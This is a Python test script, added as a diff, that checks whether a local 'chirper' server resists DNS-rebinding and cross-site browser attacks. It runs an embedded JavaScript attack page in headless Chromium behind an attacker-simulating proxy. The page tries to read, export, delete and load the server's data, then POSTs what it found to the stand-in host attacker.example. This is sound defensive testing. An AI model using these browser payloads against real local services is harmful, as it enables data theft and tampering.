@@ -1,0 +1,175 @@
+"""Loads hostile pages in Chromium next to a running `chirper serve`, and fails if one of them reads or changes anything.
+
+The browser uses a proxy that answers for the attacker. For the name `rebound.example` it answers the page itself, and sends everything else on to
+chirper with that name in `Host`: this is what a browser does after the name has come to mean 127.0.0.1. Usage: check_browser.py CHIRPER
+"""
+
+import http.client
+import http.server
+import json
+import os
+import shutil
+import signal
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+import urllib.request
+
+CHIRPER = sys.argv[1]
+ATTEMPTS = """
+const found = {};
+const base = BASE;
+async function attempt(name, promise) {
+  try { found[name] = await Promise.race([promise(), new Promise((_, no) => setTimeout(() => no('nothing'), 3000))]); }
+  catch (error) { found[name] = 'failed: ' + error; }
+}
+function text(path, options) { return async () => { const a = await fetch(base + path, options); return a.status + ' ' + await a.text(); }; }
+function element(kind, path) {
+  return () => new Promise((yes, no) => {
+    const e = document.createElement(kind); e.onload = () => yes('loaded'); e.onerror = () => no('error'); e.src = base + path; document.body.append(e);
+  });
+}
+function form(path, type, value) {
+  return () => new Promise(yes => {
+    const frame = document.createElement('iframe'); frame.name = 'f' + Math.random(); document.body.append(frame);
+    const form = document.createElement('form'); form.method = 'POST'; form.enctype = type; form.action = base + path; form.target = frame.name;
+    const field = document.createElement('input'); field.name = value; field.value = ''; form.append(field); document.body.append(form);
+    form.submit(); setTimeout(() => yes('sent'), 500);
+  });
+}
+(async () => {
+  const load = '{"query":"owl","source":"sample","all":true}';
+  await attempt('read', text('/api/3/recordings?query=q:A'));
+  await attempt('lists', text('/api/chirper/lists'));
+  await attempt('export', text('/api/chirper/export'));
+  await attempt('forget', text('/api/chirper/lists?query=parrot&source=sample', {method: 'DELETE'}));
+  await attempt('load', text('/api/chirper/loads', {method: 'POST', body: load}));
+  await attempt('load without reading', text('/api/chirper/loads', {method: 'POST', body: load, mode: 'no-cors', headers: {'Content-Type': 'text/plain'}}));
+  await attempt('session', text('/session', {method: 'POST', body: '{"token":"' + '0'.repeat(32) + '"}'}));
+  await attempt('credentials', text('/api/chirper/lists', {credentials: 'include'}));
+  await attempt('script', element('script', '/api/3/recordings?query=q:A'));
+  await attempt('image', element('img', '/api/chirper/export'));
+  await attempt('form', form('/api/chirper/loads', 'text/plain', load));
+  await attempt('usual form', form('/api/chirper/loads?query=owl', 'application/x-www-form-urlencoded', 'query'));
+  await attempt('events', () => new Promise((yes, no) => {
+    const stream = new EventSource(base + '/events'); stream.addEventListener('state', e => yes(e.data)); stream.onerror = () => no('error');
+  }));
+  await fetch('http://attacker.example/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify(found)});
+})();
+"""
+
+
+class Attacker(http.server.BaseHTTPRequestHandler):
+    """The proxy of the browser."""
+
+    port = None
+    base = None
+    report = None
+    sent_on = []
+
+    def answer(self):
+        host = self.headers["Host"]
+        path = self.path.split("/", 3)[3] if self.path.startswith("http://") else self.path[1:]
+        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
+        if path == "page":
+            page = "<!doctype html><body><script>" + ATTEMPTS.replace("BASE", json.dumps(Attacker.base)) + "</script>"
+            self.reply(200, {"Content-Type": "text/html"}, page.encode())
+        elif path == "report" and host == "attacker.example":
+            Attacker.report = json.loads(body)
+            self.reply(204, {}, b"")
+        elif host == f"rebound.example:{Attacker.port}":
+            connection = http.client.HTTPConnection("127.0.0.1", Attacker.port, timeout=10)
+            headers = {name: value for name, value in self.headers.items() if not name.lower().startswith("proxy-")}
+            connection.request(self.command, "/" + path, body, headers)
+            answer = connection.getresponse()
+            Attacker.sent_on.append((path, answer.status))
+            self.reply(answer.status, dict(answer.getheaders()), answer.read())
+        else:
+            self.reply(404, {}, b"")
+
+    do_GET = do_POST = do_DELETE = do_OPTIONS = answer
+
+    def reply(self, status, headers, body):
+        self.send_response(status)
+        for name, value in headers.items():
+            if name.lower() not in ("content-length", "transfer-encoding", "connection"):
+                self.send_header(name, value)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *_):
+        pass
+
+
+def browse(page, base):
+    """What the page reports."""
+    Attacker.base, Attacker.report = base, None
+    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
+        browser = subprocess.Popen(
+            [shutil.which("chromium"), "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={profile}", "--no-first-run",
+             # The server must refuse by itself what newer browsers refuse too.
+             "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessRespectPreflightResults",
+             f"--proxy-server=http://127.0.0.1:{proxy.server_port}", "--remote-debugging-port=0", page],
+            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        try:
+            end = time.time() + 90
+            while Attacker.report is None and time.time() < end:
+                time.sleep(0.1)
+        finally:
+            browser.terminate()
+            browser.wait(timeout=20)
+    assert Attacker.report is not None, "the page did not report"
+    return Attacker.report
+
+
+class Serve:
+    def __init__(self, *options):
+        self.home = tempfile.TemporaryDirectory()
+        self.environment = {"PATH": os.environ["PATH"], "HOME": self.home.name}
+        done = self.run("fetch", "parrot", "--source", "sample")
+        assert done.returncode == 0, done.stderr
+        self.server = subprocess.Popen([CHIRPER, "serve", "--port", "0", *options], env=self.environment, stdout=subprocess.PIPE, text=True)
+        self.address = self.server.stdout.readline().strip().rstrip("/")
+        Attacker.port = int(self.address.split(":")[2])
+
+    def run(self, *words):
+        return subprocess.run([CHIRPER, *words], env=self.environment, capture_output=True, text=True)
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *_):
+        self.server.send_signal(signal.SIGINT)
+        assert self.server.wait(timeout=5) == 0
+
+    def state(self):
+        lists = json.load(urllib.request.urlopen(self.address + "/api/chirper/lists"))
+        return [(one["query"], one["rows"]) for one in lists["queries"]], json.load(urllib.request.urlopen(self.address + "/api/chirper/loads"))["loads"]
+
+
+def refuse(name, report, state):
+    for attempt, result in report.items():
+        read = not result.startswith(("failed", "403 ", "sent")) and result.strip() != "0"
+        assert not read, f"{name}: {attempt} got {result[:200]}"
+    assert state == ([("parrot", 50)], []), f"{name}: {state}"
+    print(f"{name}: {len(report)} attempts, nothing read, nothing changed")
+
+
+proxy = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
+threading.Thread(target=proxy.serve_forever, daemon=True).start()
+
+with Serve() as serve:
+    report = browse(f"http://rebound.example:{Attacker.port}/page", f"http://rebound.example:{Attacker.port}")
+    assert len(Attacker.sent_on) >= 8 and {status for _, status in Attacker.sent_on} == {403}, Attacker.sent_on
+    refuse("a rebound page", report, serve.state())
+    report = browse("http://attacker.example/page", serve.address)
+    refuse("a page of another site", report, serve.state())
+# Were the page, or the way to the server, broken, nothing would be read either.
+with Serve("--allow-origin", "http://attacker.example") as serve:
+    report = browse("http://attacker.example/page", serve.address)
+    assert report["read"].startswith("200 ") and "parrot" in report["lists"], report
+    assert report["forget"].startswith("401 ") and serve.state() == ([("parrot", 50)], []), report
+    print("a page of an allowed origin: reads, and changes nothing without the token")
